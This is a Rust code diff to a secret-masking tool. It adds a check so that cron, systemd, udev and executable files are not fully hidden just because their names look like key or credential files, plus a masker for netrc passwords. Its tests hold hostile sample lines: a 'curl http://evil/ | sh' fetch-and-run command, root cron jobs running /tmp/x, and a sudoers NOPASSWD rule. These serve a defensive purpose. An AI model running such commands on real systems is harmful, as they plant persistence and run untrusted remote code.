@@ -117,6 +117,19 @@ const IN_PATH: [&[u8]; 10] = [
     b"/.aws/cli/cache/",
 ];
 
+/// Parts of paths of files that are read or run whatever they are called.
+const RUN: [&[u8]; 9] = [
+    b"/spool/cron/",
+    b"/spool/at/",
+    b"/etc/crontabs/",
+    b"/etc/periodic/",
+    b"/systemd/",
+    b"/etc/init/",
+    b"/etc/runit/",
+    b"/etc/sv/",
+    b"/etc/udev/",
+];
+
 /// Ends of names of files that hold keys and no text.
 const ENDINGS: [&[u8]; 8] = [b".p12", b".pfx", b".jks", b".keystore", b".kdbx", b".keytab", b".ppk", b".nmconnection"];
 
@@ -137,13 +150,55 @@ pub(super) fn is_text(text: &[u8]) -> bool {
         || has_password_at_host(text)
 }
 
-/// Whether all of the file at `path` is a secret, by its name.
+/// Whether all of the file at `path` is a secret, by its name. What is in it, or what is done with it, may say otherwise ([`may_run`]).
 pub(super) fn is_file(path: &[u8]) -> bool {
     let name = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
-    FILES.contains(&name)
-        || PATHS.iter().any(|end| path.ends_with(end))
-        || IN_PATH.iter().any(|part| contains(path, part))
-        || ENDINGS.iter().any(|end| name.to_ascii_lowercase().ends_with(end))
+    FILES.contains(&name) || PATHS.iter().any(|end| path.ends_with(end)) || is_laid_down(path) || has_ending(path)
+}
+
+/// Whether it lies where others lay secrets down: its name and mode are theirs.
+fn is_laid_down(path: &[u8]) -> bool {
+    IN_PATH.iter().any(|part| contains(path, part))
+}
+
+fn has_ending(path: &[u8]) -> bool {
+    let path = path.to_ascii_lowercase();
+    ENDINGS.iter().any(|end| path.ends_with(end))
+}
+
+/// How many first bytes of a file say what it is.
+pub(super) const BEGINNING: u64 = 8192;
+
+/// Whether the kernel would run what begins so.
+pub(super) fn is_program(beginning: &[u8]) -> bool {
+    beginning.starts_with(b"\x7fELF") || beginning.starts_with(b"#!")
+}
+
+/// Whether a file that is a secret by its name may be run or read by the system all the same: then its name must not hide it, and
+/// only what looks like a secret in its lines is hidden. A text that may be executed is run by a shell even without `#!`.
+pub(super) fn may_run(path: &[u8], mode: u32, beginning: &[u8]) -> bool {
+    if is_program(beginning) {
+        return true;
+    }
+    let (is_text, holds_keys) = (!beginning.contains(&0), has_ending(path));
+    let is_executable = mode & 0o111 != 0 && is_text && !holds_keys;
+    // A store of keys in a folder of drop-ins has bytes of zero. A crontab may have one as well, in a comment.
+    let is_run = is_run_from(path) && (is_text || !holds_keys || is_of_cron(path));
+    !is_laid_down(path) && (is_executable || is_run)
+}
+
+/// Whether what lies there is read or run whatever it is called: files of cron, at, systemd, init and udev, and all folders of drop-ins.
+pub(super) fn is_run_from(path: &[u8]) -> bool {
+    is_of_cron(path) || folder(path).ends_with(b".d") || RUN.iter().any(|part| contains(path, part))
+}
+
+fn is_of_cron(path: &[u8]) -> bool {
+    folder(path).starts_with(b"cron.") || contains(path, b"/spool/cron/") || contains(path, b"/etc/crontabs/")
+}
+
+/// The name of the folder that it lies in.
+fn folder(path: &[u8]) -> &[u8] {
+    path.rsplit(|b| *b == b'/').nth(1).unwrap_or_default()
 }
 
 fn is_access_key(window: &[u8]) -> bool {
@@ -219,6 +274,21 @@ pub(super) fn mask(text: &mut [u8]) -> u64 {
         for span in spans {
             count += hide(text, range.start + span.start..range.start + span.end);
         }
+    }
+    count
+}
+
+/// Hides the word behind each lone `password`, as netrc(5) has them, in a file that is one of secrets by its name. Returns how many bytes
+/// that were.
+pub(super) fn mask_netrc(text: &mut [u8]) -> u64 {
+    let (mut count, mut at, mut is_next) = (0, 0, false);
+    while let Some(range) = next_word(text, at) {
+        at = range.end;
+        let is_password = text.get(range.clone()).is_some_and(|word| word.eq_ignore_ascii_case(b"password"));
+        if is_next {
+            count += hide(text, range);
+        }
+        is_next = is_password && !is_next;
     }
     count
 }
@@ -594,10 +664,44 @@ mod tests {
         }
     }
 
+    #[test]
+    fn a_name_hides_nothing_that_may_run() {
+        for (path, mode, beginning) in [
+            ("/etc/cron.d/kubeconfig", 0o644, &b"* * * * * root /tmp/x\n"[..]),
+            ("/etc/cron.d/x.p12", 0o644, b"#\0\n* * * * * root /tmp/x\n"),
+            ("/l/diff/etc/cron.daily/opasswd", 0o644, b"id"),
+            ("/var/spool/cron/crontabs/opasswd", 0o600, b"@reboot id"),
+            ("/etc/sudoers.d/pap-secrets", 0o440, b"ann ALL=(ALL) NOPASSWD: ALL"),
+            ("/etc/systemd/system/opasswd", 0o644, b"[Service]"),
+            ("/tmp/.netrc", 0o755, b"curl http://evil/ | sh"),
+            ("/tmp/.netrc", 0o600, b"\x7fELF\x02"),
+            ("/run/secrets/x", 0o400, b"#!/bin/sh"),
+        ] {
+            assert!(is_file(path.as_bytes()) && may_run(path.as_bytes(), 0o100_000 | mode, beginning), "{path}");
+        }
+        for (path, mode, beginning) in [
+            ("/root/.netrc", 0o600, &b"machine h password p"[..]),
+            ("/tmp/.mylogin.cnf", 0o777, b"\0\0"),
+            ("/tmp/a.ppk", 0o777, b"PuTTY-User-Key-File-3: ssh-rsa"),
+            ("/etc/tls.d/a.jks", 0o777, b"\xfe\xed\xfe\xed\0"),
+            ("/run/secrets/db", 0o777, b"hunter2"),
+            ("/etc/security/opasswd", 0o600, b"ann:1000:1:$6$a$b"),
+        ] {
+            assert!(is_file(path.as_bytes()) && !may_run(path.as_bytes(), 0o100_000 | mode, beginning), "{path}");
+        }
+    }
+
+    #[test]
+    fn a_password_of_netrc_is_one_word() {
+        let mut text = b"machine h login u password hunter2\npassword\ncurl http://evil/\n".to_vec();
+        assert_eq!(mask_netrc(&mut text), 11);
+        assert_eq!(text, b"machine h login u password xxxxxxx\npassword\nxxxx http://evil/\n");
+    }
+
     proptest! {
         #[test]
         fn any_text_keeps_its_length_and_lines(text: Vec<u8>) {
-            for hide in [mask, mask_shadow] {
+            for hide in [mask, mask_shadow, mask_netrc] {
                 let mut copy = text.clone();
                 hide(&mut copy);
                 prop_assert!(copy.iter().zip(&text).all(|(new, old)| new == old || (*new == b'x' && *old != b'\n')));
